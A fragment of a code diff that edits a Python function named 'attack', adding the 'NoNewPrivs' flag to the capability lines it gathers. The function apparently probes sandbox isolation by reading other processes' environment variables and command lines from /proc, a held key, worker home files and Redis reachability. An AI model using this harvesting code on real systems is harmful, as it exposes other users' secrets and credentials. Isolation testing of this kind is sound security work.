@@ -68,7 +68,7 @@ def attack(base_url: str, key_var: str, redis_port: int, worker_home: str, base_
     out = {"pids": len(pids), "environ": "\n".join(read(f"/proc/{p}/environ") for p in pids),
            "cmdline": "\n".join(read(f"/proc/{p}/cmdline").replace("\0", " ") for p in pids),
            "my_env": dict(os.environ), "key_held": os.environ.get(key_var, ""),
-           "caps": [ln for ln in read("/proc/self/status").splitlines() if ln.startswith("Cap")],
+           "caps": [ln for ln in read("/proc/self/status").splitlines() if ln.startswith(("Cap", "NoNewPrivs"))],
            "worker_home": {p: read(p) for p in glob.glob(worker_home + "/*")} or read(worker_home),
            "base_repo": sorted(os.listdir(base_repo)) if os.path.isdir(base_repo) else "absent",
            "redis": redis_ping(redis_port)}
